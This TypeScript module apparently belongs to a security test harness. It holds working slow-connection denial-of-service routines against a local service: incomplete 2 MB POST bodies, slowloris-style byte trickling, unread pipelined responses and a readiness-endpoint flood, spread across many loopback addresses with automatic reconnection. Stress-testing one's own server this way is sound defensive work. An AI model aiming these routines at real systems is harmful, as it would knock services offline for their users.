/** Connections that hold memory or places without ever being done: bodies that do not end, answers that nobody reads. */
import type { Socket } from "node:net";
import type { World } from "../attack.ts";
import { openTls } from "./pushing.ts";

const bodies = 500;
const bodyBytes = 2 * 1024 * 1024;
const readers = 200;
const askers = 64;

/** All but the last byte of each. */
export function fillMemory(world: World): Promise<() => Promise<string>> {
  return hold(world, bodies, "mallory", async (socket) => {
    const piece = Buffer.alloc(64 * 1024, 0x20);
    socket.write(headOf(bodyBytes));
    socket.resume();
    for (let sent = 0; sent < bodyBytes - piece.length && !socket.destroyed; sent += piece.length)
      if (!socket.write(piece)) await drained(socket);
  });
}

/** A byte now and then. */
export function stayInBodies(world: World): Promise<() => Promise<string>> {
  return hold(world, bodies, "mallory", async (socket) => {
    socket.write(headOf(bodyBytes));
    socket.resume();
    const timer = setInterval(() => (socket.destroyed ? clearInterval(timer) : socket.write(" ")), 500);
  });
}

/** Questions whose answers are long, one behind the other. */
export function readNothing(world: World): Promise<() => Promise<string>> {
  const asked = Buffer.from("GET /openapi.json HTTP/1.1\r\nhost: localhost\r\n\r\n".repeat(200));
  return hold(world, readers, "mallory", async (socket) => {
    socket.pause();
    socket.write(asked);
  });
}

/** The one page that anybody may ask for and that looks at everything, from as many addresses, without a pause. */
export function askReadiness(world: World): Promise<() => Promise<string>> {
  return hold(world, askers, "mallory", async (socket) => {
    const ask = () => void socket.write("GET /health/ready HTTP/1.1\r\nhost: localhost\r\n\r\n");
    socket.on("data", ask);
    ask();
  });
}

function headOf(length: number): string {
  return `POST /partner/mallory/2.0.0/transactions HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n{"reqId":"`;
}

/** Opens so many, from as many addresses, does something with each, and opens those anew that are cut. */
async function hold(
  world: World,
  count: number,
  partnerId: string,
  use: (socket: Socket) => Promise<void>,
): Promise<() => Promise<string>> {
  await world.partner(partnerId);
  const until = { stopped: false };
  let cut = 0;
  const open = new Set<Socket>();
  const one = async (n: number) => {
    const socket = await openTls(world, `127.66.${9 + Math.floor(n / 200)}.${(n % 200) + 1}`);
    open.add(socket);
    const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()));
    await use(socket);
    await closed;
    open.delete(socket);
  };
  const again = async (n: number) => {
    while (!until.stopped) {
      await one(n).catch(() => undefined);
      cut += 1;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  };
  const all = Array.from({ length: count }, (_, n) => again(n));
  await new Promise((resolve) => setTimeout(resolve, 3000));
  return async () => {
    until.stopped = true;
    const held = open.size;
    for (const socket of open) socket.destroy();
    await Promise.all(all);
    return `${held} of ${count} held, ${cut} cut`;
  };
}

function drained(socket: Socket): Promise<void> {
  return new Promise((resolve) => {
    const done = () => {
      socket.off("drain", done).off("close", done);
      resolve();
    };
    socket.on("drain", done).on("close", done);
  });
}
